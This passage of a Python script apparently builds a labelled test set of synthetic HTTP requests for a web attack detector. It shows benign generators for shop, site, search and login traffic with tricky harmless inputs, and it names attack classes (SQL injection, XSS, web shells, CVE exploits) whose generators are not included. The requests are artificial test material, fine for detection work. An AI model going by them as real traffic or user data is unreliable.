                f"product_id={rng.randint(1, 9999)}&qty={rng.randint(1, 5)}"
                f"&variant={enc(rng.choice(['S', 'M', 'L', 'XL', '42', '10.5']))}"
                f"&note={enc(rng.choice(PHRASES)).replace('%20', '+')}"
            )
            yield {
                "method": "POST",
                "uri": "/cart/add",
                "headers": {**headers, "Content-Type": "application/x-www-form-urlencoded"},
                "body": body,
            }
        elif kind < 0.85:
            address = {
                "name": rng.choice(["Jo O'Neil", "Anna-Lena Müller", "José García", "李雷", "Zoë D'Angelo"]),
                "street": f"{rng.randint(1, 300)} {rng.choice(STREETS)}",
                "email": f"user{rng.randint(1, 999)}@example.org",
                "notes": rng.choice(PHRASES),
                "phone": "+44 20 7946 0958",
            }
            yield {
                "method": "POST",
                "uri": "/api/checkout/address",
                "headers": {**headers, "Content-Type": "application/json"},
                "body": json.dumps(address, ensure_ascii=False),
            }
        else:
            asset = rng.choice(
                [
                    "/static/css/main.3f2a1c9e.css",
                    "/static/js/app.91bd.js",
                    "/images/products/boot-42.webp",
                    "/fonts/inter-var.woff2",
                    "/favicon.ico",
                    "/robots.txt",
                    "/sitemap.xml",
                    "/manifest.json",
                    "/.well-known/security.txt",
                    "/.well-known/acme-challenge/Xy1z",
                ]
            )
            yield {"method": "GET", "uri": asset, "headers": {"User-Agent": ua}}


def benign_sites(rng: random.Random) -> Iterator[Request]:
    paths = [
        "/",
        "/about",
        "/blog/2024/05/how-we-moved-to-rust",
        "/blog/tags/sysadmin",
        "/blog/tags/security",
        "/docs/getting-started",
        "/docs/api/v2/errors",
        "/wp-content/themes/twentytwentyfour/style.css?ver=1.1",
        "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
        "/wp-content/uploads/2024/05/photo-1024x768.jpg",
        "/remote.php/dav/files/alice/Photos/",
        "/index.php/apps/files/?dir=/Documents",
        "/ocs/v2.php/apps/notifications/api/v2/notifications",
        "/shop/product.jsp?id=42",
        "/default.aspx?tabid=12",
        "/en-us/library/ms123456.aspx",
        "/search.php?q=linux",
        "/article.php?id=1234",
        "/files/tools/backup-script.sh",
        "/files/misc/nginx.conf.example",
        "/downloads/app-2.3.1-setup.exe",
        "/releases/v1.2.0.tar.gz",
        "/images/nagios-dashboard.png",
        "/presentations/monitoring-2013/images/nagios-alert.png",
        "/kibana-tutorial",
        "/tags/mysql",
        "/wiki/Special:Search?search=union+select+committee",
        "/w/index.php?title=Main_Page&action=history",
        "/api/v1/users/me",
        "/api/v1/comments?post_id=17&order=desc&limit=20",
        "/login?next=%2Faccount%2Forders",
        "/account/orders/10042",
        "/logout",
        "/password-reset?token=7f3a9c2b1e0d4f6a8b5c",
        "/admin/",
        "/admin/login/",
        "/static/admin/css/base.css",
        "/accounts/login/",
        "/feed.xml",
        "/rss",
        "/atom.xml",
        "/?flav=rss20",
        "/?C=M;O=A",
        "/scripts/",
        "/misc/sample.log",
        "/files/setup/install.txt",
        "/2011/06/click-automaticos.html",
        "/catalog/browse.aspx?Subcategory=13&Keyword=shorts",
        "/sitemap_index.xml",
        "/amp/",
        "/search?q=%C0%AE%B8%A4&enc=euc-jp",
        "/produits?q=%c0%ae%c3%a9t%c3%a9",
        "/docs/jquery?snippet=%24(document).ready(function()%7B%20init()%3B%20%7D)",
    ]
    referers = [
        "https://news.ycombinator.com/",
        "https://t.co/abc123",
        "https://www.google.com/search?q=nagios+sms+alerts&oq=nagios",
        "https://duckduckgo.com/",
        "-",
    ]
    for _ in range(1100):
        path = rng.choice(paths)
        headers = {"User-Agent": rng.choice(BROWSERS)}
        ref = rng.choice(referers)
        if ref != "-":
            headers["Referer"] = ref
        if rng.random() < 0.3:
            path += ("&" if "?" in path else "?") + rng.choice(
                [
                    "utm_source=newsletter&utm_medium=email&utm_campaign=may24",
                    "fbclid=IwAR2x9Zk_4Q",
                    "gclid=Cj0KCQjw",
                    "ref=home",
                    "lang=de",
                    "page=2",
                ]
            )
        yield {"method": "GET", "uri": path, "headers": headers}


def benign_search(rng: random.Random) -> Iterator[Request]:
    engines = [
        "/search?q={q}&hl=en&source=hp",
        "/search?q={q}&form=QBLH",
        "/?q={q}&ia=web",
        "/results?search_query={q}",
        "/s?k={q}&ref=nb_sb_noss",
        "/search/?query={q}&lang=en",
    ]
    for _ in range(700):
        q = rng.choice(PHRASES) if rng.random() < 0.5 else " ".join(rng.sample(WORDS, rng.randint(2, 5)))
        if rng.random() < 0.1:
            q = q + " " + rng.choice(["site:example.com", "filetype:pdf", "-ads", '"2024"', "OR reviews", "AND price"])
        yield {
            "method": "GET",
            "uri": rng.choice(engines).format(q=enc(q).replace("%20", "+")),
            "headers": {"User-Agent": rng.choice(BROWSERS)},
        }


PASSWORDS = [
    "hunter2",
    "Tr0ub4dor&3",
    "p@ss w0rd!",
    "correct horse battery staple",
    "O'Brien#1",
    "<3kittens",
    "a1b2c3;d4",
]


def benign_apps(rng: random.Random) -> Iterator[Request]:
    """APIs and app forms: JSON with free text, markdown, code snippets in issue trackers, login forms."""
    texts = [
        *PHRASES,
        "Thanks for the quick reply! I'll try that tomorrow.",
        "The build fails with `error: linker cc not found` on Ubuntu 22.04.",
        "Use `SELECT id FROM orders WHERE status = 'paid'` to list paid orders.",
        "Steps: 1) open settings; 2) click *Save*; 3) reload.",
        "My address is 12 O'Connell St., Dublin (near the bridge).",
        "See https://example.com/docs?id=42&lang=en for details.",
        "**Bold** and _italic_ in markdown, with a [link](https://example.org).",
        "Price went from $10 to $12.50 — that's 25% more!",
        "if (x > 0) { return x; } else { return -x; }",
        "<p>Hello <b>world</b></p>",
        "Meeting at 10:30; agenda: budget & hiring.",
        "Ich hätte gern 3\u00d7 Brezeln und 1 Kaffee.",
    ]
    for _ in range(500):
        kind = rng.random()
        headers = {"User-Agent": rng.choice(BROWSERS), "Cookie": f"session={rng.getrandbits(96):024x}"}
        if kind < 0.4:
            body = json.dumps(
                {
                    "title": rng.choice(texts)[:40],
                    "body": rng.choice(texts),
                    "tags": rng.sample(WORDS, 2),
                    "draft": rng.random() < 0.5,
                },
                ensure_ascii=False,
            )
            yield {
                "method": "POST",
                "uri": rng.choice(["/api/v2/issues", "/api/posts", "/api/notes/17"]),
                "headers": {**headers, "Content-Type": "application/json"},
                "body": body,
            }
        elif kind < 0.7:
            user = rng.choice(["alice", "bob.smith", "j.o_neil", "user+tag@example.org"])
            secret = rng.choice(PASSWORDS)
            body = f"username={enc(user)}&password={enc(secret)}&remember=on"
            yield {
                "method": "POST",
                "uri": rng.choice(["/login", "/session", "/accounts/login/"]),
                "headers": {**headers, "Content-Type": "application/x-www-form-urlencoded"},
                "body": body,
            }
        else:
            body = f"comment={enc(rng.choice(texts)).replace('%20', '+')}&post_id={rng.randint(1, 500)}"
            yield {
                "method": "POST",
                "uri": "/comments",
                "headers": {**headers, "Content-Type": "application/x-www-form-urlencoded"},
                "body": body,
            }


def build(rng: random.Random) -> tuple[dict[str, list[Request]], dict[str, list[Request]]]:
    writer = Writer(rng)
    attacks: dict[str, list[Request]] = {
        "sql_injection": [writer.place(p) for p in sql_injection(rng)],
        "xss": [writer.place(p, path=False) for p in xss(rng)],
        "command_injection": [writer.place(p) for p in command_injection(rng)],
        "path_traversal": [writer.place(p, path=True) for p in path_traversal(rng)],
        "other_injection": [writer.place(p) for p in other_injection(rng)],
        "sensitive_files": [writer.path(p) for p in probe_paths(SENSITIVE, rng, 160)],
        "admin_cms": [writer.path(p) for p in probe_paths(ADMIN, rng, 160)],
        "scanner_discovery": [writer.path(p) for p in probe_paths(SCANNER, rng, 120)],
        "web_shells": list(web_shells(rng)),
        "cve_exploits": list(cve_exploits(rng)),
    }
    benign = {
        "shop": list(benign_shop(rng)),
        "sites": list(benign_sites(rng)),
        "search": list(benign_search(rng)),
        "apps": list(benign_apps(rng)),
    }
    return attacks, benign


def write(folder: Path, name: str, rows: list[Request]) -> int:
    folder.mkdir(parents=True, exist_ok=True)
    seen: set[str] = set()
    lines = []
    for row in rows:
        line = json.dumps(row, ensure_ascii=False, sort_keys=True)
        if line not in seen:
            seen.add(line)
            lines.append(line)
    (folder / f"{name}.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return len(lines)


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--out", type=Path, default=OUT)
    args = parser.parse_args(argv)
    attacks, benign = build(random.Random(20261207))
    for name, rows in sorted(attacks.items()):
        print(f"attacks/{name}: {write(args.out / 'attacks', name, rows)}")
    for name, rows in sorted(benign.items()):
        print(f"benign/{name}: {write(args.out / 'benign', name, rows)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
